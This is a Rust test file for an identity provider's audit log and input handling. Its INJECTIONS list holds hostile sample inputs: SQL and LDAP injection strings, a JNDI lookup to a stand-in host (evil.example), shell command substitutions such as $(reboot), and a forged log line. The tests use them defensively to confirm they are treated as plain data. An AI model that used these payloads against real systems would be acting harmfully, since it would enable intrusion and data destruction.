//! The audit log: who did what, from where; never a secret, and nothing that an attacker could forge into it.

use crate::login::give_password;
use crate::own_process::idp_server;
use diesel::prelude::*;
use idp_core::client::ClientId;
use idp_core::session::EndCause;
use idp_server::db::audit_events::AuditContext;
use idp_server::db::schema::audit_events;
use idp_server::hash_pool::WorkOf;
use idp_server::installation::Installation;
use idp_server::store::revoke::Target;
use idp_tests::{ClientSpec, PASSWORD, SignedIn, TestIdp, jwt};

/// One row, as it is stored.
#[derive(Queryable, Debug, Clone)]
struct Entry {
    #[allow(dead_code, reason = "for the message of a failure")]
    id: String,
    at: i64,
    event: String,
    actor: Option<String>,
    user: Option<String>,
    client: Option<String>,
    sid: Option<String>,
    address: Option<String>,
    detail: Option<String>,
}

async fn entries(db: &idp_server::db::Db) -> Vec<Entry> {
    db.read(|connection| Ok(audit_events::table.order(audit_events::id).load(connection)?)).await.unwrap()
}

async fn only(idp: &TestIdp, event: &str) -> Entry {
    let all = entries(&idp.db).await;
    let mut found: Vec<_> = all.iter().filter(|entry| entry.event == event).cloned().collect();
    assert_eq!(found.len(), 1, "{event} among {all:?}");
    found.remove(0)
}

#[tokio::test]
async fn s113_what_a_person_does_is_recorded_with_who_where_and_when() {
    let idp = TestIdp::start().await;
    let site = ClientSpec::confidential("site-a").with_consent();
    idp.add_client(&site).await;
    let alice = idp.add_user("alice").await.to_string();
    let browser = idp.browser();
    let page = browser.visit(idp.authorize_url(&site, &[])).await;

    idp.clock.advance(1);
    assert_eq!(browser.log_in_as(&page, "alice", "wrong").await.status, 422);
    let failed = only(&idp, "sign_in_failed").await;
    assert_eq!(
        (failed.user.as_deref(), failed.address.as_deref(), failed.at),
        (Some(alice.as_str()), Some("127.0.0.1"), idp.now())
    );

    idp.clock.advance(1);
    let answer = browser.log_in_as(&page, "alice", PASSWORD).await;
    let signed_in = only(&idp, "signed_in").await;
    assert_eq!(
        (signed_in.user.as_deref(), signed_in.address.as_deref(), signed_in.at),
        (Some(alice.as_str()), Some("127.0.0.1"), idp.now())
    );

    let consent = browser.follow(answer).await;
    let _ = browser.press(&consent, "deny", &[]).await;
    let refused = only(&idp, "consent_refused").await;
    assert_eq!(
        (refused.user.as_deref(), refused.client.as_deref(), &refused.sid),
        (Some(alice.as_str()), Some("site-a"), &signed_in.sid)
    );

    let code = browser.press(&consent, "allow", &[]).await.redirect_param("code").unwrap();
    let given = only(&idp, "consent_given").await;
    assert_eq!(
        (given.user.as_deref(), given.client.as_deref(), &given.sid),
        (Some(alice.as_str()), Some("site-a"), &signed_in.sid)
    );

    let tokens = idp.redeem(&site, &code).await;
    assert_eq!(jwt::claims(tokens.text("id_token"))["sid"].as_str(), signed_in.sid.as_deref());
    let end = browser.open(idp.url("/end-session")).await;
    assert_eq!(browser.press(&end, "cancel", &[]).await.status, 200);
    assert!(entries(&idp.db).await.iter().all(|entry| entry.event != "signed_out"));
    assert_eq!(browser.press(&end, "logout", &[]).await.status, 303);
    let out = only(&idp, "signed_out").await;
    assert_eq!(
        (out.user.as_deref(), &out.sid, out.address.as_deref()),
        (Some(alice.as_str()), &signed_in.sid, Some("127.0.0.1"))
    );
}

#[tokio::test]
async fn s113_an_unknown_name_is_recorded_without_the_name() {
    let idp = TestIdp::start().await;
    let site = ClientSpec::confidential("site-a");
    idp.add_client(&site).await;
    let browser = idp.browser();
    let page = browser.visit(idp.authorize_url(&site, &[])).await;
    // People type their password there.
    assert_eq!(browser.log_in_as(&page, "my-password-in-the-wrong-field", "x").await.status, 422);
    let failed = only(&idp, "sign_in_failed").await;
    assert_eq!((failed.user, failed.detail), (None, None));
}

#[tokio::test]
async fn s113_guessing_is_recorded_and_cannot_fill_the_log() {
    let idp = TestIdp::start().await;
    let site = ClientSpec::confidential("site-a");
    idp.add_client(&site).await;
    let alice = idp.add_user("alice").await.to_string();
    let browser = idp.browser();
    let page = browser.visit(idp.authorize_url(&site, &[])).await;
    for _ in 0..200 {
        let _ = browser.log_in_as(&page, "alice", "wrong").await;
    }
    let all = entries(&idp.db).await;
    let throttled: Vec<_> = all.iter().filter(|entry| entry.event == "sign_in_throttled").collect();
    assert!(!throttled.is_empty() && throttled.len() <= 10, "{}", throttled.len());
    assert_eq!(
        (throttled[0].user.as_deref(), throttled[0].address.as_deref()),
        (Some(alice.as_str()), Some("127.0.0.1"))
    );
    assert_eq!(all.iter().filter(|entry| entry.event == "sign_in_failed").count(), 10);
}

/// Refusals are recorded a few times a minute. Those under a wrong clock must not silence the record afterwards.
#[tokio::test]
async fn a1_refusals_under_a_clock_that_was_ahead_silence_no_later_record() {
    for ahead in [2 * 60 * 60, 40 * 24 * 60 * 60] {
        let idp = TestIdp::start().await;
        let site = ClientSpec::confidential("site-a");
        idp.add_client(&site).await;
        let impostor = ClientSpec { secret: Some("cs.wrong".to_owned()), ..site };
        let recorded = async || {
            let all = entries(&idp.db).await;
            all.iter().filter(|entry| entry.event == "client_refused").count()
        };
        idp.clock.advance(ahead);
        for _ in 0..10 {
            assert_eq!(idp.refresh(&impostor, "x").await.status, 401);
        }
        let before = recorded().await;
        assert!((1..10).contains(&before), "the record is bounded: {before}");
        idp.clock.advance(-ahead);
        assert_eq!(idp.refresh(&impostor, "x").await.status, 401);
        assert_eq!(recorded().await, before + 1, "{ahead} s");
    }
}

#[tokio::test]
async fn s113_reuse_and_revocation_are_recorded() {
    let alice = SignedIn::at(ClientSpec::confidential("site-a")).await;
    let (idp, site, id) = (&alice.idp, &alice.site, alice.alice.to_string());
    let sid = jwt::claims(alice.id_token())["sid"].as_str().map(str::to_owned);
    let assert_about_her = |entry: &Entry| {
        assert_eq!(
            (entry.user.as_deref(), entry.client.as_deref(), &entry.sid),
            (Some(id.as_str()), Some("site-a"), &sid),
            "{entry:?}"
        );
    };
    // A code twice.
    let code = alice.code().await;
    assert_eq!(idp.redeem(site, &code).await.status, 200);
    assert_eq!(idp.redeem(site, &code).await.refusal(), (400, "invalid_grant"));
    assert_about_her(&only(idp, "code_reused").await);
    // A refresh token after its time.
    assert_eq!(idp.refresh(site, alice.refresh_token()).await.status, 200);
    idp.clock.advance(11);
    assert_eq!(idp.refresh(site, alice.refresh_token()).await.refusal(), (400, "invalid_grant"));
    assert_about_her(&only(idp, "refresh_token_reused").await);
    // Given back.
    let tokens = alice.grant().await;
    let _ = idp.post_as(site, "/revoke", &[("token", tokens.text("refresh_token"))]).await;
    let revoked = only(idp, "token_revoked").await;
    assert_eq!((revoked.client.as_deref(), revoked.address.as_deref()), (Some("site-a"), Some("127.0.0.1")));
    // What a site does to keep its own house is the operator's to read, and nobody's event: sites do it at each step up.
    assert_eq!((revoked.user, revoked.sid), (None, None));
    let activity = alice.browser.open(idp.url("/account/activity")).await;
    assert!(!activity.body.contains("token_revoked"), "{}", activity.body);
    // A client with a wrong secret.
    let mut impostor = site.clone();
    impostor.secret = Some("cs.wrong".to_owned());
    assert_eq!(idp.refresh(&impostor, "x").await.status, 401);
    let refused = only(idp, "client_refused").await;
    assert_eq!((refused.client.as_deref(), refused.address.as_deref()), (Some("site-a"), Some("127.0.0.1")));
}

#[tokio::test]
async fn s113_what_an_administrator_changes_is_recorded() {
    let idp = TestIdp::start().await;
    let site = ClientSpec::confidential("site-a");
    idp.add_client(&site).await;
    let alice = idp.add_user("alice").await;
    let now = idp.clock.now();
    let hash = idp.app.hashing.hash(&WorkOf::operator(), idp_tests::typed("another password")).await.unwrap();
    let changes = [
        (Target::Password { user: alice, hash }, EndCause::PasswordChanged, "password_set"),
        (Target::DisabledUser(alice), EndCause::UserDisabled, "user_disabled"),
        (
            Target::Client { id: ClientId::parse("site-a").unwrap(), seen: None },
            EndCause::ClientRemoved,
            "client_removed",
        ),
    ];
    for (target, cause, event) in changes {
        let about =
            AuditContext { user: Some(alice), client: Some("site-a".to_owned()), ..AuditContext::default() };
        assert!(idp.app.store.revoke(target, cause, about, now).await.unwrap());
        assert_eq!(only(&idp, event).await.at, idp.now());
    }
}

#[tokio::test]
async fn s113_the_command_line_records_what_it_did() {
    let folder = tempfile::tempdir().unwrap();
    let run = |arguments: &[&str]| {
        let done = idp_server(folder.path(), arguments).output().unwrap();
        assert!(done.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
        String::from_utf8(done.stdout).unwrap()
    };
    let _ = run(&["migrate"]);
    let person = run(&["--json", "user", "add", "alice", "--generate"]);
    let client =
        run(&["--json", "client", "add", "site-a", "--redirect-uri", "https://site-a.example/callback"]);
    let renewed = run(&["--json", "user", "set-password", "alice", "--generate", "--yes"]);
    let _ = run(&["user", "disable", "alice", "--yes"]);
    let _ = run(&["user", "enable", "alice"]);
    let _ = run(&["client", "remove", "site-a", "--yes"]);
    let storage =
        idp_server::config::StorageConfig { data_dir: folder.path().join("data"), ..Default::default() };
    let all = entries(&Installation::open(&storage).unwrap().db).await;
    let mut events: Vec<&str> = all.iter().map(|entry| entry.event.as_str()).collect();
    events.sort_unstable();
    assert_eq!(
        events,
        ["client_added", "client_removed", "password_set", "user_added", "user_disabled", "user_enabled"],
        "{all:?}"
    );
    for entry in &all {
        assert!(entry.actor.as_deref().is_some_and(|actor| actor.starts_with("console:")), "{entry:?}");
        let about_a_client = entry.event.starts_with("client");
        assert_eq!(
            (entry.user.is_some(), entry.client.as_deref() == Some("site-a")),
            (!about_a_client, about_a_client),
            "{entry:?}"
        );
    }
    let written = format!("{all:?}");
    for (output, member) in [(&person, "password"), (&renewed, "password"), (&client, "client_secret")] {
        let json = output.lines().collect::<String>();
        let json = &json[json.find('{').unwrap()..=json.rfind('}').unwrap()];
        let secret =
            serde_json::from_str::<serde_json::Value>(json).unwrap()[member].as_str().unwrap().to_owned();
        assert!(secret.len() > 12 && !written.contains(&secret));
    }
}

/// Statements, wildcards and line ends, for every field there is.
const INJECTIONS: &[&str] = &[
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "'; DROP TABLE users; --",
    "alice'--",
    "alice'/*",
    "admin') OR ('1'='1",
    "%",
    "a%",
    "_____",
    "alic_",
    "*",
    "*)(uid=*))(|(uid=*",
    "${jndi:ldap://evil.example/x}",
    "$(reboot)",
    "`id`",
    "x\r\n2026-01-01 INFO signed_in user=root",
    "x\u{2028}y\u{85}z",
    "\u{1b}[2J\u{202e}",
    "\0",
    "{{7*7}}",
    "1; SELECT pg_sleep(10)",
    "\u{fffd}\u{10ffff}",
];

#[tokio::test]
async fn s94_no_field_reaches_the_database_as_anything_but_data() {
    let idp = TestIdp::start_with(|config| config.throttle.enabled = false).await;
    let site = ClientSpec::confidential("site-a");
    idp.add_client(&site).await;
    let alice = idp.add_user("alice").await;
    let bystander = idp.browser().sign_in_for_tokens(&idp, &site, "alice").await;
    for text in INJECTIONS {
        inject_into_forms(&idp, &site, text).await;
        inject_into_authorize(&idp, &site, text).await;
        inject_into_token(&idp, &site, text).await;
        assert!(!idp.is_active(&site, text).await);
        assert_eq!(idp.post_as(&site, "/revoke", &[("token", text)]).await.status, 200);
    }
    // Everything is where it was.
    assert_eq!(idp.userinfo(bystander.text("access_token")).await.text("sub"), alice.to_string());
    assert_eq!(idp.refresh(&site, bystander.text("refresh_token")).await.status, 200);
    for entry in entries(&idp.db).await {
        for text in [&entry.client, &entry.address, &entry.detail].into_iter().flatten() {
            assert!(text.len() <= 200 && !text.chars().any(char::is_control), "{entry:?}");
        }
    }
}

async fn inject_into_forms(idp: &TestIdp, site: &ClientSpec, text: &str) {
    let browser = idp.browser();
    let changes = [("login_hint", text), ("state", text), ("nonce", text)];
    let page = browser.visit(idp.authorize_url(site, &changes)).await;
    for (name, password) in [(text, PASSWORD), ("alice", text), (text, text)] {
        let answer = browser.log_in_as(&page, name, password).await;
        assert_eq!((answer.status, answer.location()), (422, None), "{name:?} {password:?}");
    }
    let (tx, csrf) = (page.input("tx"), page.input("csrf"));
    for field in ["tx", "csrf", "action"] {
        let good = [("tx", tx.as_str()), ("csrf", csrf.as_str()), ("action", "")];
        let fields = good.map(|(name, value)| (name, if name == field { text } else { value }));
        for path in ["/login", "/consent", "/logout"] {
            let answer = browser.post(idp.url(path), &fields).await;
            assert!((300..500).contains(&answer.status), "{path} {field} {text:?}: {}", answer.status);
        }
    }
}

const AUTHORIZE_PARAMETERS: [&str; 9] = [
    "client_id",
    "redirect_uri",
    "response_type",
    "scope",
    "prompt",
    "claims",
    "id_token_hint",
    "code_challenge",
    "max_age",
];

async fn inject_into_authorize(idp: &TestIdp, site: &ClientSpec, text: &str) {
    let browser = idp.browser();
    for parameter in AUTHORIZE_PARAMETERS {
        let answer = browser.open(idp.authorize_url(site, &[(parameter, text)])).await;
        let is_refused = matches!(answer.status, 303 | 400) && answer.redirect_param("code").is_none();
        assert!(is_refused, "{parameter} {text:?}");
    }
    // Anything else is no cookie that a browser could send.
    if text.is_ascii() && !text.chars().any(char::is_control) {
        browser.set_cookie("idp.localhost", "__Host-idp_session", text);
        assert!(browser.visit(idp.authorize_url(site, &[])).await.has_form("/login"), "{text:?}");
    }
}

async fn inject_into_token(idp: &TestIdp, site: &ClientSpec, text: &str) {
    for grant in ["authorization_code", "refresh_token", "client_credentials"] {
        let form = [
            ("grant_type", grant),
            ("code", text),
            ("refresh_token", text),
            ("redirect_uri", text),
            ("code_verifier", text),
            ("scope", text),
        ];
        assert_eq!(idp.post_as(site, "/token", &form).await.status, 400, "{grant} {text:?}");
    }
    let as_client =
        |id, secret| [("grant_type", "client_credentials"), ("client_id", id), ("client_secret", secret)];
    assert_eq!(idp.post("/token", &as_client(text, text)).await.status / 100, 4);
    assert_eq!(idp.post("/token", &as_client("site-a", text)).await.status, 401);
}

#[tokio::test]
async fn s94_a_name_that_looks_like_a_statement_is_a_name() {
    let idp = TestIdp::start().await;
    let site = ClientSpec::confidential("site-a");
    idp.add_client(&site).await;
    for name in ["o'brien", "robert');drop", "100%", "under_score", "back\\slash"] {
        let id = idp.add_user(name).await;
        give_password(&idp, id, "a password of their own").await;
        let browser = idp.browser();
        let page = browser.visit(idp.authorize_url(&site, &[])).await;
        let answer = browser.log_in_as(&page, name, "a password of their own").await;
        let tokens = idp.redeem(&site, &answer.redirect_param("code").unwrap()).await;
        assert_eq!(idp.userinfo(tokens.text("access_token")).await.text("sub"), id.to_string());
    }
}
